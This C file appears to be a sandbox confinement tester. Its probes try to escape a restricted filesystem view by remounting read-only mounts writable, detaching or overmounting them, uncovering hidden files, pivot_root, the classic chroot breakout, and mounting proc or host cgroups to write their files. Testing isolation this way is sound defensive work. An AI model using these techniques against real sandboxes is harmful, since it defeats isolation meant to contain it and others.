/*
 * Attacks on the view of the files, by what CAP_SYS_ADMIN can do. Before any of them the word
 * "nested" first makes an own user namespace, where the attacker has every capability.
 */
#include "attack.h"

#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>

enum { TREE_CLONE = 1, FROM_EMPTY = 4, EMPTY_PATH = 0x1000, ATTR_RDONLY = 1 };

struct attr {
	uint64_t set, clear, propagation, userns;
};

static int
readonly(const char *path)
{
	struct statvfs v;

	return statvfs(path, &v) < 0 || (v.f_flag & ST_RDONLY) != 0;
}

/* Each flag that the mount has is kept, as the kernel demands of who did not set it, but for
 * read-only. */
static int
attack_remount(char **arg)
{
	struct statvfs v;
	unsigned long flags = MS_REMOUNT | MS_BIND;

	if (statvfs(arg[0], &v) < 0)
		return trouble(arg[0]);
	flags |= v.f_flag & (MS_NOSUID | MS_NODEV | MS_NOEXEC | MS_NOATIME | MS_RELATIME);
	if (mount(NULL, arg[0], NULL, flags, NULL) < 0)
		return held(arg[0]);
	return readonly(arg[0]) ? TROUBLE : hole(arg[0]);
}

static int
attack_setattr(char **arg)
{
	struct attr a = { .clear = ATTR_RDONLY };

	if (syscall(SYS_mount_setattr, AT_FDCWD, arg[0], 0, &a, sizeof(a)) < 0)
		return held(arg[0]);
	return readonly(arg[0]) ? TROUBLE : hole(arg[0]);
}

static int
attack_umount(char **arg)
{
	return outcome(arg[0], umount2(arg[0], MNT_DETACH));
}

/* Whatever is mounted over the root comes off. */
static int
attack_tmpfs(char **arg)
{
	return outcome(arg[0], mount("none", arg[0], "tmpfs", 0, NULL));
}

static int
attack_bind(char **arg)
{
	return outcome(arg[1], mount(arg[0], arg[1], NULL, MS_BIND, NULL));
}

/* What a mount at DIR/NAME hides: a clone of DIR alone does not have it. */
static int
attack_uncover(char **arg)
{
	int fd = (int)syscall(SYS_open_tree, AT_FDCWD, arg[0], TREE_CLONE);

	if (fd < 0)
		return held("open_tree");
	return outcome_fd(arg[1], openat(fd, arg[1], O_RDONLY));
}

static int
attack_move(char **arg)
{
	return outcome(arg[0], mount(arg[0], arg[1], NULL, MS_MOVE, NULL));
}

static int
attack_pivot(char **arg)
{
	if (chdir(arg[0]) < 0)
		return trouble(arg[0]);
	return outcome("pivot_root", syscall(SYS_pivot_root, ".", "."));
}

/* The old way out of a chroot: a root below the working directory does not hold that. DIR is any
 * directory, PATH what is to be written outside. */
static int
attack_chroot(char **arg)
{
	int fd = open("/", O_PATH | O_DIRECTORY);

	if (chroot(arg[0]) < 0)
		return held("chroot");
	if (fchdir(fd) < 0)
		return trouble("fchdir");
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return trouble("..");
	if (chroot(".") < 0)
		return trouble("chroot");
	return outcome_fd(arg[1], open(arg[1], O_WRONLY | O_APPEND));
}

/* A proc of one's own at DIR, and through it NAME for writing. */
static int
attack_proc(char **arg)
{
	pid_t pid;
	int status = 0;

	if (unshare(CLONE_NEWPID) < 0)
		return held("unshare");
	pid = fork();
	if (pid < 0)
		return trouble("fork");
	if (pid == 0) {
		if (mount("none", arg[0], "proc", 0, NULL) < 0)
			_exit(held("mount"));
		if (chdir(arg[0]) < 0)
			_exit(trouble(arg[0]));
		_exit(outcome_fd(arg[1], open(arg[1], O_WRONLY)));
	}
	waitpid(pid, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : TROUBLE;
}

/* The control groups of the host at DIR: TYPE cgroup2, or cgroup with OPTIONS; PATH, one of their
 * files, for writing. */
static int
attack_groups(char **arg)
{
	char path[4096];

	if (unshare(CLONE_NEWCGROUP) < 0)
		return held("unshare");
	if (mount("none", arg[0], arg[1], 0, arg[2][0] == '\0' ? NULL : arg[2]) < 0)
		return held("mount");
	snprintf(path, sizeof(path), "%s/%s", arg[0], arg[3]);
	return outcome_fd(path, open(path, O_WRONLY));
}

/* Any capability's first use: a mount namespace of one's own. */
static int
attack_unshare(char **arg)
{
	(void)arg;
	return outcome("unshare", unshare(CLONE_NEWNS));
}

static int
put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY), r;

	if (fd < 0)
		return -1;
	r = (int)write(fd, text, strlen(text));
	close(fd);
	return r;
}

/* Without /proc the ids stay unmapped; the capabilities are there all the same. */
static int
nest(void)
{
	char uids[64], gids[64];
	unsigned uid = (unsigned)getuid(), gid = (unsigned)getgid();

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return -1;
	snprintf(uids, sizeof(uids), "%u %u 1", uid, uid);
	snprintf(gids, sizeof(gids), "%u %u 1", gid, gid);
	(void)!put("/proc/self/setgroups", "deny");
	(void)!put("/proc/self/uid_map", uids);
	(void)!put("/proc/self/gid_map", gids);
	return 0;
}

int
main(int argc, char **argv)
{
	static const struct attack table[] = {
		{ "remount", 1, attack_remount },
		{ "setattr", 1, attack_setattr },
		{ "umount", 1, attack_umount },
		{ "tmpfs", 1, attack_tmpfs },
		{ "bind", 2, attack_bind },
		{ "uncover", 2, attack_uncover },
		{ "move", 2, attack_move },
		{ "pivot", 1, attack_pivot },
		{ "chroot", 2, attack_chroot },
		{ "proc", 2, attack_proc },
		{ "groups", 4, attack_groups },
		{ "unshare", 0, attack_unshare },
	};

	if (argc > 1 && strcmp(argv[1], "nested") == 0) {
		if (nest() < 0)
			return held("nested user namespace");
		argc--;
		argv++;
	}
	return attack_main(table, sizeof(table) / sizeof(table[0]), argc, argv);
}
